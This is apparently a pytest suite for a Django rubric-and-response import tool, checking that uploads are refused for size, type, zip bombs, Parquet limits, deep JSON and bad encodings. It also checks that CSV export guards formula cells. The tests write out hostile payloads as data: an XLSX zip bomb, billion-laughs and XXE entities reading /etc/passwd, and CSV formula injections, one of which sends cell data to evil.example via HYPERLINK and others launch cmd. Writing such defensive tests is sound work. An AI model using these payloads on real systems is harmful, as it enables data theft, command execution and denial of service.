"""Upload limits: sizes, types, zip and Parquet bombs, deep JSON, bad encodings. Each refused
through the page, the API and the command where they exist, with a clear error naming the file
(or line and field) and the limit, and nothing written: no row, no stored file."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from annotation.models import ImportJob, Response
from rubrics import checks, formats, uploads
from rubrics.models import Criterion, ReferenceDeliverable, Rubric, RubricVersion, Task
from tests import factories
from tests.conftest import MEDIA_DIR
from tests.test_api import api_client

pytestmark = pytest.mark.django_db

DEEP = "[" * 100_000 + "]" * 100_000
HB_LINE = {
    "prompt": [{"role": "user", "content": "Chest pain, what now?"}],
    "prompt_id": "hb-1",
    "rubrics": [{"criterion": "Advises calling emergency services", "points": 5, "tags": []}],
}
TASK_ROW = {"external_id": "t-1", "messages": [{"role": "user", "content": "Hi?"}]}
RESPONSE_ROW = {"task_id": "r-task", "model": "m", "response": "An answer."}


# --- Helpers ----------------------------------------------------------------------------------


def stored_files() -> set[str]:
    return {str(p.relative_to(MEDIA_DIR)) for p in Path(MEDIA_DIR).rglob("*") if p.is_file()}


def snapshot(project) -> tuple:
    """Everything an import could write, and every stored file."""
    return (
        Task.objects.filter(project=project).count(),
        Rubric.objects.filter(project=project).count(),
        RubricVersion.objects.filter(rubric__project=project).count(),
        Criterion.objects.filter(version__rubric__project=project).count(),
        Response.objects.filter(task__project=project).count(),
        ImportJob.objects.filter(project=project).count(),
        ReferenceDeliverable.objects.filter(task__project=project).count(),
        frozenset(stored_files()),
    )


@pytest.fixture
def unchanged(personas):
    """Assert, at the end of the test, that nothing was written."""
    factories.make_task(personas.project, "r-task")
    before = snapshot(personas.project)
    yield
    assert snapshot(personas.project) == before


def text_of(reply) -> str:
    return html.unescape(reply.content.decode())


def rubric_page(client, personas, name: str, data: bytes, fmt: str):
    client.force_login(personas.author)
    return client.post(
        f"/p/{personas.project.slug}/rubrics/import/",
        {"format": fmt, "file": SimpleUploadedFile(name, data)},
    )


def rubric_command(personas, tmp_path, name: str, data: bytes, fmt: str) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(CommandError) as caught:
        call_command("import_rubrics", str(path), format=fmt, project=personas.project.slug)
    return str(caught.value)


def tasks_page(client, personas, name: str, data: bytes) -> str:
    client.force_login(personas.author)
    reply = client.post(
        f"/p/{personas.project.slug}/imports/tasks/", {"file": SimpleUploadedFile(name, data)}
    )
    assert reply.status_code == 200
    return text_of(reply)


def tasks_api(personas, name: str, data: bytes):
    return api_client(personas.author).post(
        f"/api/projects/{personas.project.slug}/imports/tasks/",
        {"file": SimpleUploadedFile(name, data)},
        format="multipart",
    )


def tasks_command(personas, tmp_path, name: str, data: bytes, capsys) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(CommandError):
        call_command("import_tasks", str(path), project=personas.project.slug)
    return capsys.readouterr().err


def responses_page(client, personas, name: str, data: bytes) -> str:
    client.force_login(personas.engineer)
    reply = client.post(
        f"/p/{personas.project.slug}/responses/", {"file": SimpleUploadedFile(name, data)}
    )
    assert reply.status_code == 200, reply.status_code
    return text_of(reply)


def responses_api(personas, name: str, data: bytes):
    return api_client(personas.engineer).post(
        f"/api/projects/{personas.project.slug}/responses/import/",
        {"file": SimpleUploadedFile(name, data)},
        format="multipart",
    )


def responses_command(personas, tmp_path, name: str, data: bytes, capsys, fmt=None) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    options = {"format": fmt} if fmt else {}
    with pytest.raises(CommandError):
        call_command("import_responses", str(path), project=personas.project.slug, **options)
    return capsys.readouterr().err


def jsonl(*rows) -> bytes:
    return b"".join((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in rows)


def parquet(rows) -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows), out)
    return out.getvalue()


def workbook(rows) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


SHEET_ROWS = [
    ["task_id", "prompt", "criterion", "points"],
    ["s-1", "What now?", "Says to call 911", 5],
]


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add=()) -> bytes:
    """An XLSX with some parts replaced and others added."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = replace.get(item.filename, src.read(item.filename))
            dst.writestr(item.filename, body, compress_type=zipfile.ZIP_DEFLATED)
        for name, body in add:
            dst.writestr(name, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --- Sizes ------------------------------------------------------------------------------------


def test_a_rubric_file_over_its_limit_is_refused_by_name_page_and_command(
    client, personas, tmp_path, settings, unchanged
):
    settings.RUBRIC_UPLOAD_MAX_BYTES = 1000
    data = jsonl(*[{**HB_LINE, "prompt_id": f"hb-{i}"} for i in range(20)])
    assert len(data) > 1000
    shown = text_of(rubric_page(client, personas, "big.jsonl", data, "healthbench"))
    size = uploads.megabytes(len(data))
    assert f"'big.jsonl' is {size}; rubric imports take files of at most 1000 bytes" in shown
    assert "ASSAY_RUBRIC_UPLOAD_MAX_BYTES" in shown and "Nothing was imported" in shown
    message = rubric_command(personas, tmp_path, "big.jsonl", data, "healthbench")
    assert f"'big.jsonl' is {size}" in message and "at most 1000 bytes" in message


def test_a_task_file_over_its_limit_is_a_413_naming_the_field(
    client, personas, tmp_path, settings, capsys, unchanged
):
    settings.TASK_UPLOAD_MAX_BYTES = 100
    data = jsonl(*[{**TASK_ROW, "external_id": f"t-{i}"} for i in range(5)])
    message = f"'tasks.jsonl' is {len(data)} bytes; task imports take files of at most 100 bytes"
    assert message in tasks_page(client, personas, "tasks.jsonl", data)
    reply = tasks_api(personas, "tasks.jsonl", data)
    assert reply.status_code == 413
    assert reply.json()["errors"][0].startswith(f"file: {message}")
    assert message in tasks_command(personas, tmp_path, "tasks.jsonl", data, capsys)


def test_a_response_file_over_its_limit_is_refused_and_never_stored(
    client, personas, tmp_path, settings, capsys, unchanged
):
    settings.RESPONSE_UPLOAD_MAX_BYTES = 3 * 1024 * 1024
    row = {**RESPONSE_ROW, "response": "x" * 1000}
    big = jsonl(*[{**row, "sample_index": i} for i in range(3200)])  # background-sized
    assert len(big) > settings.RESPONSE_UPLOAD_MAX_BYTES
    shown = responses_page(client, personas, "big.jsonl", big)
    size = uploads.megabytes(len(big))
    assert f"'big.jsonl' is {size}; response imports take files of at most 3.0 MB" in shown
    assert "ASSAY_RESPONSE_UPLOAD_MAX_BYTES" in shown
    reply = responses_api(personas, "big.jsonl", big)
    assert reply.status_code == 413
    assert reply.json()["errors"][0]["field"] == "file"
    assert "at most 3.0 MB" in reply.json()["errors"][0]["message"]
    reply = api_client(personas.engineer).post(
        f"/api/projects/{personas.project.slug}/imports/",
        {"file": SimpleUploadedFile("big.jsonl", big)},
        format="multipart",
    )
    assert reply.status_code == 413 and "at most 3.0 MB" in reply.json()["file"][0]
    assert f"'big.jsonl' is {size}" in responses_command(
        personas, tmp_path, "big.jsonl", big, capsys
    )


@pytest.mark.parametrize(
    ("url", "setting", "api"),
    [
        ("/p/{slug}/rubrics/import/", "RUBRIC_UPLOAD_MAX_BYTES", False),
        ("/p/{slug}/imports/tasks/", "TASK_UPLOAD_MAX_BYTES", False),
        ("/api/projects/{slug}/imports/tasks/", "TASK_UPLOAD_MAX_BYTES", True),
        ("/p/{slug}/responses/", "RESPONSE_UPLOAD_MAX_BYTES", False),
        ("/api/projects/{slug}/responses/import/", "RESPONSE_UPLOAD_MAX_BYTES", True),
        ("/api/projects/{slug}/imports/", "RESPONSE_UPLOAD_MAX_BYTES", True),
        ("/api/projects/{slug}/tasks/r-task/references/", "REFERENCE_FILE_MAX_BYTES", True),
        ("/api/projects/{slug}/tasks/", "DATA_UPLOAD_MAX_MEMORY_SIZE", True),
    ],
)
def test_a_body_declared_over_the_route_limit_is_refused_before_it_is_read(
    client, personas, url, setting, api, unchanged
):
    """The declared length alone refuses it: the 10-byte body is never parsed."""
    user = personas.admin
    url = url.format(slug=personas.project.slug)
    huge = str(50 * 1024**3)
    if api:
        reply = api_client(user).post(url, {"x": "y"}, format="json", CONTENT_LENGTH=huge)
        assert reply.status_code == 413
        body = reply.json()
        assert body["field"] == ("body" if setting.startswith("DATA") else "file")
        assert "The upload is 50.0 GB" in body["detail"] and "at most" in body["detail"]
    else:
        client.force_login(user)
        reply = client.post(url, {"x": "y"}, CONTENT_LENGTH=huge)
        assert reply.status_code == 413
        assert "The upload is 50.0 GB" in text_of(reply)
    assert "Nothing was read or stored" in text_of(reply)


def test_a_reference_file_over_its_limit_leaves_no_stored_file(personas, settings, unchanged):
    settings.REFERENCE_FILE_MAX_BYTES = 100
    reply = api_client(personas.author).post(
        f"/api/projects/{personas.project.slug}/tasks/r-task/references/",
        {"file": SimpleUploadedFile("memo.pdf", b"%PDF" + b"x" * 500)},
        format="multipart",
    )
    assert reply.status_code == 400 and "memo.pdf" in reply.json()["file"][0]


# --- Types ------------------------------------------------------------------------------------


def test_a_file_whose_content_is_not_its_declared_format_is_refused(
    client, personas, tmp_path, capsys, unchanged
):
    xlsx = workbook(SHEET_ROWS)
    shown = text_of(rubric_page(client, personas, "rubrics.jsonl", xlsx, "healthbench"))
    assert "'rubrics.jsonl' is a zip archive (an XLSX workbook?), not HealthBench JSONL" in shown
    shown = text_of(rubric_page(client, personas, "sheet.xlsx", b"task_id,criterion\n", "xlsx"))
    assert "'sheet.xlsx' is text, not an XLSX workbook (a zip archive)" in shown
    other_zip = io.BytesIO()
    with zipfile.ZipFile(other_zip, "w") as z:
        z.writestr("notes.txt", "hello")
    message = rubric_command(personas, tmp_path, "sheet.xlsx", other_zip.getvalue(), "xlsx")
    assert "is a zip archive but not an XLSX workbook (no [Content_Types].xml" in message
    shown = text_of(rubric_page(client, personas, "tree.json", parquet([TASK_ROW]), "paperbench"))
    assert "'tree.json' is a Parquet file, not a PaperBench JSON tree" in shown
    # A .parquet name on JSONL text, and a Parquet file where JSONL responses go.
    assert "'t.parquet' is text, not a Parquet file" in tasks_page(
        client, personas, "t.parquet", jsonl(TASK_ROW)
    )
    assert (
        "'t.jsonl' is a zip archive (an XLSX workbook?), not JSONL text or a Parquet"
        in (tasks_api(personas, "t.jsonl", xlsx).json()["errors"][0])
    )
    # Responses are found by their content (a Parquet r.jsonl imports as Parquet): a zip that
    # is no inspect-ai eval log is read as a bundle, which must hold the responses.
    shown = responses_page(client, personas, "r.jsonl", xlsx)
    assert "'r.jsonl' is an archive with no responses file in it" in shown
    err = responses_command(personas, tmp_path, "r.parquet", jsonl(RESPONSE_ROW), capsys)
    assert "'r.parquet' is text, not a Parquet file" in err


# --- XLSX bombs -------------------------------------------------------------------------------


def test_an_xlsx_zip_bomb_is_refused_before_openpyxl_unpacks_it(
    client, personas, tmp_path, unchanged
):
    bomb = rezip(workbook(SHEET_ROWS), add=[("xl/media/zeros.bin", b"\0" * (50 * 1024 * 1024))])
    assert len(bomb) < 200_000
    started = time.monotonic()
    shown = text_of(rubric_page(client, personas, "bomb.xlsx", bomb, "xlsx"))
    assert "'bomb.xlsx': the part xl/media/zeros.bin expands" in shown
    assert "at most 200 times is accepted (ASSAY_XLSX_MAX_RATIO)" in shown
    assert time.monotonic() - started < 5
    many = rezip(workbook(SHEET_ROWS), add=[(f"xl/x{i}.xml", b"<a/>") for i in range(600)])
    message = rubric_command(personas, tmp_path, "many.xlsx", many, "xlsx")
    assert "holds 609 parts; workbooks of at most 500 parts" in message


def test_an_xlsx_that_unpacks_too_large_or_has_too_many_rows_or_columns_is_refused(
    client, personas, tmp_path, settings, unchanged
):
    settings.XLSX_MAX_UNPACKED_BYTES = 1024 * 1024
    noise = rezip(workbook(SHEET_ROWS), add=[("xl/media/noise.bin", os.urandom(2 * 1024**2))])
    shown = text_of(rubric_page(client, personas, "noise.xlsx", noise, "xlsx"))
    assert "'noise.xlsx' unpacks to 2.0 MB; workbooks may unpack to at most 1.0 MB" in shown
    settings.XLSX_MAX_UNPACKED_BYTES = 200 * 1024**2
    settings.SHEET_MAX_ROWS = 5
    rows = SHEET_ROWS + [["s-1", "", f"Criterion {i}", 1] for i in range(10)]
    message = rubric_command(personas, tmp_path, "rows.xlsx", workbook(rows), "xlsx")
    assert "More than 5 rows; a rubric sheet has at most 5 (ASSAY_SHEET_MAX_ROWS)" in message
    csv_text = "\n".join(",".join(map(str, r)) for r in rows).encode()
    message = rubric_command(personas, tmp_path, "rows.csv", csv_text, "csv")
    assert "More than 5 rows" in message
    settings.SHEET_MAX_ROWS = 100_000
    settings.SHEET_MAX_COLUMNS = 10
    wide = [SHEET_ROWS[0] + [f"extra{i}" for i in range(12)], SHEET_ROWS[1] + [""] * 12]
    message = rubric_command(personas, tmp_path, "wide.xlsx", workbook(wide), "xlsx")
    assert "16 columns; a rubric sheet has at most 10 (ASSAY_SHEET_MAX_COLUMNS)" in message
    # A sheet that declares a far larger grid than it fills is read by what it holds.
    settings.SHEET_MAX_ROWS = 5
    sheet = "xl/worksheets/sheet1.xml"
    book = workbook(SHEET_ROWS)
    # openpyxl writes `<dimension ref="A1:D2" />`, or without the space when lxml is present.
    xml = re.sub(
        rb'<dimension ref="A1:D2"\s*/>',
        b'<dimension ref="A1:XFD1048576" />',
        zipfile.ZipFile(io.BytesIO(book)).read(sheet),
    )
    assert b"XFD1048576" in xml
    big_grid = rezip(book, replace={sheet: xml})
    call_command(
        "import_rubrics",
        str(_write(tmp_path, "grid.xlsx", big_grid)),
        format="xlsx",
        project=personas.project.slug,
    )
    assert Criterion.objects.filter(version__rubric__project=personas.project).count() == 1
    Rubric.objects.filter(project=personas.project).delete()
    Task.objects.filter(project=personas.project, external_id="s-1").delete()


SHEET_XML = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>task_id</t></is></c></row>'
    b'<row r="2"><c r="A2" t="inlineStr"><is><t>&ENTITY;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10))
    + b"]>"
    + SHEET_XML.replace(b"ENTITY", b"lol9")
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + SHEET_XML.replace(b"ENTITY", b"xxe")
)


@pytest.mark.parametrize("xml", [LAUGHS, EXTERNAL], ids=["billion-laughs", "external-entity"])
def test_xml_entities_in_a_workbook_are_refused_not_expanded(client, personas, xml, unchanged):
    book = workbook(SHEET_ROWS)
    sheet = "xl/worksheets/sheet1.xml"
    assert sheet in zipfile.ZipFile(io.BytesIO(book)).namelist()
    evil = rezip(book, replace={sheet: xml})
    started = time.monotonic()
    shown = text_of(rubric_page(client, personas, "evil.xlsx", evil, "xlsx"))
    assert time.monotonic() - started < 5
    assert (
        "'evil.xlsx' is not a readable XLSX workbook (EntitiesForbidden: its XML declares entities"
        in shown
    )
    assert "root:" not in shown and "lollol" not in shown


# --- Parquet ----------------------------------------------------------------------------------


def test_parquet_with_absurd_declared_rows_or_unexpected_columns_is_refused_before_loading(
    client, personas, tmp_path, settings, capsys, unchanged
):
    settings.PARQUET_MAX_ROWS = 3
    rows = [{**TASK_ROW, "external_id": f"t-{i}"} for i in range(5)]
    reply = tasks_api(personas, "t.parquet", parquet(rows))
    assert reply.status_code == 413
    assert (
        "'t.parquet' declares 5 rows; at most 3 are accepted (ASSAY_PARQUET_MAX_ROWS)"
        in (reply.json()["errors"][0])
    )
    responses = [{**RESPONSE_ROW, "sample_index": i} for i in range(5)]
    err = responses_command(personas, tmp_path, "r.parquet", parquet(responses), capsys)
    assert "'r.parquet' declares 5 rows; at most 3" in err
    settings.PARQUET_MAX_ROWS = 1000
    settings.PARQUET_MAX_UNPACKED_BYTES = 100
    assert "declares 0.0 MB of data" not in tasks_page(client, personas, "t.parquet", b"")
    assert "of data; at most 100 bytes is accepted" in tasks_page(
        client, personas, "t.parquet", parquet(rows)
    )
    settings.PARQUET_MAX_UNPACKED_BYTES = 1024**3
    settings.PARQUET_MAX_ROW_GROUP_BYTES = 100
    reply = tasks_api(personas, "t.parquet", parquet(rows))
    assert reply.status_code == 413
    assert (
        "at most 100 bytes is accepted (ASSAY_PARQUET_MAX_ROW_GROUP_BYTES)"
        in (reply.json()["errors"][0])
    )
    settings.PARQUET_MAX_ROW_GROUP_BYTES = 1024**3
    odd = [{**TASK_ROW, "password": "x", "shell": "rm"}]
    shown = tasks_page(client, personas, "t.parquet", parquet(odd))
    assert "'t.parquet': unexpected column(s) 'password', 'shell'; the columns are:" in shown
    err = responses_command(
        personas, tmp_path, "r.parquet", parquet([{**RESPONSE_ROW, "x": 1}]), capsys
    )
    assert "unexpected column(s) 'x'" in err


# --- Deep JSON --------------------------------------------------------------------------------


def test_json_nested_100000_deep_is_a_clear_error_naming_the_line(
    client, personas, tmp_path, capsys, unchanged
):
    data = jsonl(HB_LINE, DEEP.encode())
    shown = text_of(rubric_page(client, personas, "deep.jsonl", data, "healthbench"))
    assert "deep.jsonl, line 2: Nested too deeply (more than 64 levels" in shown
    message = rubric_command(personas, tmp_path, "deep.json", DEEP.encode(), "paperbench")
    assert "root: Nested too deeply (more than 104 levels" in message
    tasks = jsonl(TASK_ROW, {**TASK_ROW, "external_id": "t-2", "context": "x"}, DEEP.encode())
    assert "line 3: nested too deeply" in tasks_page(client, personas, "t.jsonl", tasks)
    reply = tasks_api(personas, "t.jsonl", tasks)
    assert reply.status_code == 400 and "line 3: nested too deeply" in reply.json()["errors"][0]
    assert "line 3: nested too deeply" in tasks_command(
        personas, tmp_path, "t.jsonl", tasks, capsys
    )
    deep_metadata = b'{"task_id": "r-task", "model": "m", "response": "a", "metadata": ' + (
        DEEP.encode() + b"}"
    )
    responses = jsonl(RESPONSE_ROW, deep_metadata)
    assert "line 2: nested too deeply" in responses_page(client, personas, "r.jsonl", responses)
    reply = responses_api(personas, "r.jsonl", responses)
    assert reply.status_code == 400
    assert reply.json()["errors"][0]["line"] == 2
    assert "nested too deeply" in reply.json()["errors"][0]["message"]
    err = responses_command(personas, tmp_path, "r.jsonl", responses, capsys)
    assert "line 2: nested too deeply" in err


def test_an_api_json_body_nested_too_deeply_is_a_400_not_a_crash(personas, unchanged):
    client = api_client(personas.author)
    body = '{"external_id": "deep", "title": "x", "messages": ' + DEEP + "}"
    reply = client.post(
        f"/api/projects/{personas.project.slug}/tasks/", body, content_type="application/json"
    )
    assert reply.status_code == 400
    assert "nested too deeply (more than 64 levels" in reply.json()["detail"]


def test_the_depth_scan_takes_linear_time_on_an_unclosed_string_of_escapes(personas, unchanged):
    """'"\\"\\"\\...' left open: the scan for nesting took quadratic time on it (minutes of
    CPU for 100 kB, before json.loads was even tried)."""
    client = api_client(personas.author)
    body = '{"external_id": "deep", "messages": ' + "[" * 100 + '"\\' * 50_000
    started = time.monotonic()
    reply = client.post(
        f"/api/projects/{personas.project.slug}/tasks/", body, content_type="application/json"
    )
    assert time.monotonic() - started < 2
    assert reply.status_code == 400
    assert "nested too deeply (more than 64 levels" in reply.json()["detail"]
    assert uploads.json_depth('["\\"[", ["\\\\", [[' + '"\\' * 3) == 4


# --- Encodings --------------------------------------------------------------------------------


def test_non_utf8_bytes_and_utf16_files_are_refused_by_line_or_file(
    client, personas, tmp_path, capsys, unchanged
):
    cafe = json.dumps({**HB_LINE, "prompt_id": "café"}, ensure_ascii=False)
    latin1 = jsonl(HB_LINE, cafe.encode("latin-1"))
    shown = text_of(rubric_page(client, personas, "l.jsonl", latin1, "healthbench"))
    assert "l.jsonl, line 2: Not UTF-8 text (byte" in shown
    utf16 = json.dumps(HB_LINE).encode("utf-16")
    shown = text_of(rubric_page(client, personas, "u.jsonl", utf16, "healthbench"))
    assert "'u.jsonl' is UTF-16 text, not HealthBench JSONL text. Save it as UTF-8." in shown
    message = rubric_command(personas, tmp_path, "u.csv", "a,b\n".encode("utf-16-le"), "csv")
    assert "'u.csv' is UTF-16 text, not CSV text" in message
    csv_latin1 = "task_id,prompt,criterion,points\ns-1,Qué?,Dice algo,1\n".encode("latin-1")
    message = rubric_command(personas, tmp_path, "l.csv", csv_latin1, "csv")
    assert "line 2: 'l.csv' is not UTF-8 text" in message
    tasks = jsonl(TASK_ROW, b'{"external_id": "t-\xff", "messages": []}')
    assert "line 2: not UTF-8 text (byte 20 of the line)" in tasks_page(
        client, personas, "t.jsonl", tasks
    )
    utf16_tasks = jsonl(TASK_ROW).decode().encode("utf-16")
    reply = tasks_api(personas, "t.jsonl", utf16_tasks)
    assert "'t.jsonl' is UTF-16 text" in reply.json()["errors"][0]
    err = responses_command(personas, tmp_path, "r.jsonl", jsonl(RESPONSE_ROW, b"\xc3("), capsys)
    assert "line 2: not UTF-8 text" in err
    err = responses_command(
        personas, tmp_path, "r.jsonl", jsonl(RESPONSE_ROW).decode().encode("utf-16-be"), capsys
    )
    assert "'r.jsonl' is UTF-16 text" in err


def test_a_utf8_bom_is_accepted_everywhere(client, personas, tmp_path):
    bom = uploads.UTF8_BOM
    reply = rubric_page(client, personas, "hb.jsonl", bom + jsonl(HB_LINE), "healthbench")
    assert reply.status_code == 302
    tree = {"id": "r", "requirements": "Root", "weight": 1, "sub_tasks": []}
    call_command(
        "import_rubrics",
        str(_write(tmp_path, "t.json", bom + json.dumps(tree).encode())),
        format="paperbench",
        project=personas.project.slug,
    )
    reply = tasks_api(personas, "t.jsonl", bom + jsonl(TASK_ROW))
    assert reply.status_code == 201, reply.json()
    reply = responses_api(personas, "r.jsonl", bom + jsonl({**RESPONSE_ROW, "task_id": "t-1"}))
    assert reply.status_code == 201, reply.json()
    assert Criterion.objects.filter(version__rubric__project=personas.project).count() == 2


def _write(tmp_path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


NUL = '"a\\u0000b"'
SURROGATE = '"\\ud800"'


@pytest.mark.parametrize(
    ("escape", "what"),
    [(NUL, "contains a NUL character"), (SURROGATE, "contains a lone surrogate")],
    ids=["nul", "surrogate"],
)
def test_text_the_database_cannot_store_is_refused_naming_line_and_field(
    client, personas, tmp_path, capsys, escape, what, unchanged
):
    hb = json.dumps(HB_LINE).replace('"Chest pain, what now?"', escape).encode()
    shown = text_of(
        rubric_page(
            client, personas, "hb.jsonl", jsonl(HB_LINE | {"prompt_id": "0"}, hb), "healthbench"
        )
    )
    assert f"hb.jsonl, line 2: prompt[0].content: The text {what}" in shown
    tree = '{"id": "r", "requirements": ' + escape + ', "weight": 1, "sub_tasks": []}'
    message = rubric_command(personas, tmp_path, "t.json", tree.encode(), "paperbench")
    assert f"root.requirements: The text {what}" in message
    task = json.dumps(TASK_ROW).replace('"Hi?"', escape).encode()
    assert f"line 1, field 'messages[0].content': {what}" in tasks_page(
        client, personas, "t.jsonl", task
    )
    reply = tasks_api(personas, "t.jsonl", task)
    assert reply.status_code == 400 and what in reply.json()["errors"][0]
    nul_parquet = parquet([{**TASK_ROW, "title": "a\x00b"}])
    if escape == NUL:
        assert "line 1, field 'title': contains a NUL character" in tasks_page(
            client, personas, "t.parquet", nul_parquet
        )
    for field in ("response", "model", "metadata"):
        row = {**RESPONSE_ROW, "metadata": {"k": "v"}}
        text = json.dumps(row)
        text = (
            text.replace('"v"', escape)
            if field == "metadata"
            else text.replace(json.dumps(row[field]), escape)
        )
        reply = responses_api(personas, "r.jsonl", jsonl(RESPONSE_ROW, text.encode()))
        assert reply.status_code == 400, field
        error = reply.json()["errors"][0]
        assert error["line"] == 2 and error["field"] == (
            "metadata.k" if field == "metadata" else field
        )
        assert what in error["message"]
    err = responses_command(
        personas,
        tmp_path,
        "r.jsonl",
        jsonl(json.dumps(RESPONSE_ROW).replace('"m"', escape).encode()),
        capsys,
    )
    assert f"line 1, field 'model': {what}" in err
    csv_text = b"task_id,prompt,criterion,points\ns-1,Q?,Says\x00 it,1\n"
    message = rubric_command(personas, tmp_path, "n.csv", csv_text, "csv")
    assert "line 2: Holds a NUL character" in message


def test_an_api_json_body_with_unstorable_text_is_a_400_naming_the_field(personas, unchanged):
    client = api_client(personas.author)
    for escape, what in [(NUL, "NUL character"), (SURROGATE, "lone surrogate")]:
        body = '{"external_id": "x", "title": ' + escape + ', "messages": "Hi?"}'
        reply = client.post(
            f"/api/projects/{personas.project.slug}/tasks/",
            body,
            content_type="application/json",
        )
        assert reply.status_code == 400
        assert f"field 'title' contains a {what}" in reply.json()["detail"]


def test_a_csv_field_over_the_csv_limit_is_a_clear_error(personas, tmp_path, unchanged):
    csv_text = f'task_id,prompt,criterion,points\ns-1,Q?,"{"x" * 200_000}",1\n'.encode()
    message = rubric_command(personas, tmp_path, "long.csv", csv_text, "csv")
    assert "line 2: Not readable as CSV (field larger than field limit" in message


# --- CSV export: formula injection ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab first",
    "\rReturn first",
    "''=A guarded cell from a spreadsheet",  # a CSV guard on text that starts with '=
    "'plain apostrophe",
]
# What the import stores: the guard's one apostrophe off, nothing else changed.
# (Criterion text is stripped of surrounding whitespace, so a tab or CR first never reaches it.)
STORED = [
    *FORMULAS[:4],
    "Tab first",
    "Return first",
    "'=A guarded cell from a spreadsheet",
    "'plain apostrophe",
]


def test_csv_export_guards_formula_cells_and_the_import_round_trips_them(
    client, personas, tmp_path
):
    rows = [["task_id", "prompt", "criterion", "points", "tags", "gate", "group"]]
    rows += [
        ["-task-1", "=1+1 what now?", text, -3 if i % 2 else 2, "-tag, @x", "", ""]
        for i, text in enumerate(FORMULAS)
    ]
    rows[1][4:7] = ["=risky", "yes", "+Group"]
    source = io.StringIO()
    csv.writer(source).writerows(rows)
    path = _write(tmp_path, "in.csv", source.getvalue().encode())
    call_command("import_rubrics", str(path), format="csv", project=personas.project.slug)
    before = Criterion.objects.filter(version__rubric__project=personas.project)
    assert list(before.order_by("position").values_list("text", flat=True)) == STORED

    client.force_login(personas.author)
    reply = client.get(f"/p/{personas.project.slug}/rubrics/export/?format=csv")
    assert reply.status_code == 200 and reply["Content-Type"] == "text/csv; charset=utf-8"
    exported = reply.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == ["-3"] * 4  # plain negative numbers are numbers, not formulas
    assert "'-task-1" in cells and "'=1+1 what now?" in cells
    assert "''=A guarded cell from a spreadsheet" in cells and "'plain apostrophe" in cells
    assert "'-tag, @x" in cells and "'+Group" in cells

    other = factories.make_project(owner=personas.admin)
    out = tmp_path / "out.csv"
    call_command("export_rubrics", format="csv", project=personas.project.slug, output=str(out))
    assert out.read_text() == exported
    call_command("import_rubrics", str(out), format="csv", project=other.slug)
    after = Criterion.objects.filter(version__rubric__project=other)
    fields = ("text", "points", "tags", "gate", "group__title")
    assert list(after.order_by("position").values_list(*fields)) == list(
        before.order_by("position").values_list(*fields)
    )
    assert after.get(position=0).tags == ["=risky"] and after.get(position=0).gate is True
    assert after.get(position=1).tags == ["-tag", "@x"]
    assert list(after.order_by("position").values_list("text", flat=True)) == STORED
    task = Task.objects.get(project=other)
    assert task.external_id == "-task-1"
    assert task.messages == [{"role": "user", "content": "=1+1 what now?"}]


def test_the_guard_covers_every_formula_start_and_undoes_exactly_itself():
    for value in ["=1", "+1", "-x", "@x", "\tx", "\rx", "'=x", "''+x"]:
        guarded = formats.guard_cell(value)
        assert guarded == "'" + value and formats.unguard_cell(guarded) == value
    for value in ["-5", "-2.50", "12", "plain", "'quoted", "", "a=b"]:
        assert formats.guard_cell(value) == value == formats.unguard_cell(value)


def test_a_response_nested_too_deeply_fails_a_json_check_instead_of_crashing_the_run():
    check = {"type": "json_field", "path": "decision", "equals": "yes"}
    met, why = checks.evaluate(check, DEEP)
    assert met is False and "nested too deeply" in why
    assert checks.evaluate(check, '{"decision": "yes"}')[0] is True
